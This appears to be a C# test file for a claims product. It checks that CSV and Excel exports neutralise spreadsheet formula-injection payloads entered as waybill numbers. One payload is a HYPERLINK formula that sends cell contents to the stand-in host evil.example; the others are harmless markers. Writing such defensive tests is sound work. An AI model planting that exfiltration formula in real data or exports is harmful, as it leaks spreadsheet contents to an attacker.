using System.IO.Compression;
using System.Text;
using System.Text.RegularExpressions;
using Claims.Contracts.Model;
using Claims.Infrastructure.EventStore;
using Claims.Lifecycle;
using Claims.Register;
using Claims.Tests.Register;

namespace Claims.Tests.BadInput;

/// <summary>
/// Text a spreadsheet would run (leading = + - @, tab, CR, LF, spaces before =) typed into a waybill, then every CSV
/// the product writes (claims list, finance export, assess) shows it defused with a leading quote, and the Excel
/// export keeps it a text cell, never a formula.
/// </summary>
[Collection(nameof(BadInputCollection))]
public sealed partial class FormulaInjectionTests(BadInputHost host)
{
    // Waybills can hold no ':' (the claim id's separator), so the link has no scheme; a spreadsheet still follows it.
    private static readonly string[] Payloads =
    [
        "=HYPERLINK(\"evil.example/?\"&A1,\"FI1\")", "+FI2+1", "-FI3-1", "@SUM(FI4)", "\tFI5=1+1", "\rFI6=1+1", "\nFI7=1+1", "   =FI8+1",
    ];

    [Fact]
    public async Task text_a_spreadsheet_would_run_is_defused_in_every_csv_and_stays_text_in_the_workbook()
    {
        var cs = host.Host.ConnectionString;
        foreach (var waybill in Payloads)
            Assert.Null((await host.Host.Get<ClaimReporting>().ReportAsync(new Incident(waybill, "ZTO", IncidentType.Lost, Direction.Forward,
                new DateOnly(2026, 4, 8), new DateOnly(2026, 4, 10), GoodsValue: 300m, Freight: 12m, WeightKg: 1.2m), new Actor("corpus"))).Refusal);
        var folder = Directory.CreateTempSubdirectory("claims-formula-").FullName;
        try
        {
            var list = await CliRun.RunAsync(cs, "list", "--format", "csv");
            Assert.True(list.Exit == 0, list.Err);
            AssertDefused("claims list --format csv", list.Out);

            var csv = Path.Combine(folder, "export.csv");
            Assert.Equal(0, (await CliRun.RunAsync(cs, "export", "csv", "-o", csv)).Exit);
            AssertDefused("claims export csv", await File.ReadAllTextAsync(csv));

            var incidents = Path.Combine(folder, "incidents.csv");
            await File.WriteAllTextAsync(incidents, "waybill,carrier,incident,shippedOn,incidentOn,goodsValue\n"
                + string.Concat(Payloads.Select(p => $"\"{p.Replace("\"", "\"\"", StringComparison.Ordinal)}\",ZTO,lost,2026-04-08,2026-04-10,300\n")));
            var (output, error) = (new StringWriter(), new StringWriter());
            var assess = await Claims.Cli.Hosting.CliApp.RunAsync(["assess", "--contracts", Repo.Samples, "--incidents", incidents, "--format", "csv", "--today", "2026-04-20"], output, error);
            Assert.True(assess == 0, error.ToString());
            AssertDefused("claims assess --format csv", output.ToString());

            var xlsx = Path.Combine(folder, "export.xlsx");
            Assert.Equal(0, (await CliRun.RunAsync(cs, "export", "excel", "-o", xlsx)).Exit);
            AssertTextCellsOnly(xlsx);
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    /// <summary>No field holding a payload would run: it starts with the defusing quote, or (read back trimmed, as the
    /// incident reader does with a leading tab) no longer starts with anything a spreadsheet runs.</summary>
    private static void AssertDefused(string what, string csv)
    {
        var fields = Fields(csv.TrimStart('\uFEFF'));
        foreach (var payload in Payloads)
        {
            var marker = Marker().Match(payload).Value;
            var holding = fields.Where(f => f.Contains(marker, StringComparison.Ordinal)).ToList();
            Assert.True(holding.Count > 0, $"{what}: {marker} is not in the output:\n{csv}");
            Assert.All(holding, f => Assert.True(f.StartsWith('\'') || !Runs(f), $"{what}: the field {Show(f)} would run in a spreadsheet"));
        }
    }

    private static void AssertTextCellsOnly(string xlsx)
    {
        using var zip = ZipFile.OpenRead(xlsx);
        var sheets = zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)).Select(e => new StreamReader(e.Open()).ReadToEnd()).ToList();
        var strings = zip.GetEntry("xl/sharedStrings.xml") is { } s ? new StreamReader(s.Open()).ReadToEnd() : "";
        foreach (var payload in Payloads)
        {
            var marker = Marker().Match(payload).Value;
            Assert.True(strings.Contains(marker, StringComparison.Ordinal) || sheets.Any(x => Regex.IsMatch(x, $"<is><t[^>]*>[^<]*{marker}")),
                $"{marker} is not a text cell of the workbook");
            Assert.DoesNotContain(sheets, x => Regex.IsMatch(x, $"<f>[^<]*{marker}"));
        }
    }

    /// <summary>RFC 4180 fields of all rows (quoted fields may hold commas, quotes and line breaks).</summary>
    private static List<string> Fields(string csv)
    {
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"' && field.Length == 0) quoted = true;
            else if (c is ',' or '\n' or '\r') { fields.Add(field.ToString()); field.Clear(); }
            else field.Append(c);
        }
        fields.Add(field.ToString());
        return fields;
    }

    private static bool Runs(string field) => field.TrimStart(' ') is [('=' or '+' or '-' or '@' or '\t' or '\r' or '\n'), ..];

    private static string Show(string field) => field.Replace("\t", "\\t", StringComparison.Ordinal).Replace("\r", "\\r", StringComparison.Ordinal).Replace("\n", "\\n", StringComparison.Ordinal);

    [GeneratedRegex("FI[0-9]")]
    private static partial Regex Marker();
}
